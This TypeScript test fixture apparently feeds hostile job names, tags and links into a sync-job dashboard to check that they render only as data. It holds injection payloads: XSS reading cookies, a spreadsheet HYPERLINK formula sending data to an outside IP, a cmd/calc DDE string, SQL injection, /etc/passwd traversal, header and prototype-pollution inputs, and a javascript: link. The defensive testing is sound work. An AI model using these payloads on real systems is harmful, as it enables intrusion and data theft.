import type { RawSyncJobInfo, RawTagItem } from '@syncdeck/domain';
import type { Showcase } from './showcase.ts';

/** Names that must reach a page, a CSV, a log or a header only as data. */
const names = [
  '<img src=x onerror=alert(1)>',
  '"><script>alert(document.cookie)</script>',
  '=HYPERLINK("http://198.51.100.7/leak?c="&A1,"Open")',
  "+1+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd',
  '-2+3 lag',
  '\t=1+1',
  'invoice-\u202Egnp.cod.exe',
  'ord\u200Bers\u200D-zero\uFEFFwidth',
  `orders-${'very-long-name-'.repeat(12)}x`.slice(0, 200),
  'first line\nsecond line\r\nX-Injected: yes',
  'ansi \u001B[31mred\u001B[0m \u001B]0;title\u0007',
  'è·¨è´¦å\u008F·tdsql-mysql',
  '{{constructor.constructor("alert(1)")()}} ${7*7} %s %00',
  "'; DROP TABLE jobs; --",
  '../../../../etc/passwd',
  '🚚 订单→数仓 💥',
  '   spaces around   ',
  'e\u0301a\u0308 Z\u0351\u036B\u0343\u036A\u0302a\u0363lgo ﬁ ＦＵＬＬ',
  '',
];

const tags: RawTagItem[][] = [
  [
    { TagKey: '__proto__', TagValue: 'polluted' },
    { TagKey: 'constructor', TagValue: 'toString' },
  ],
  [{ TagKey: '<b>team</b>', TagValue: '=1+1' }],
  [
    { TagKey: 'a:b', TagValue: 'c:d' },
    { TagKey: 'a', TagValue: 'b:c:d' },
  ],
  [{ TagKey: '!team', TagValue: '!core' }],
  Array.from({ length: 24 }, (_, index) => ({
    TagKey: `label-${index + 1}`,
    TagValue: `value ${index + 1}`,
  })),
];

/** Where a server-sent link must not lead. */
const links = [
  'javascript:alert(1)',
  'https://cloud.tencent.com.example.net/document/571',
  'http://cloud.tencent.com/document/product/571',
];

export const hostileShowcases: readonly Showcase[] = [
  ...names.map((name): Showcase => ({ traits: () => ({ name, oldShape: false }) })),
  ...tags.map((list): Showcase => ({ traits: () => ({ tags: list, oldShape: false }) })),
  ...links.map((link): Showcase => ({ story: 'resting-ResumableErr', patch: (job) => withLink(job, link) })),
];

function withLink(job: RawSyncJobInfo, link: string): RawSyncJobInfo {
  const steps = job.Detail?.StepInfos?.map((step) => ({
    ...step,
    Errors:
      step.Errors?.map((tip) => ({
        ...tip,
        HelpDoc: link,
        Message: `<script>alert("${tip.Code}")</script> ${tip.Message}`,
      })) ?? null,
  }));
  return { ...job, Detail: { ...job.Detail, StepInfos: steps } };
}
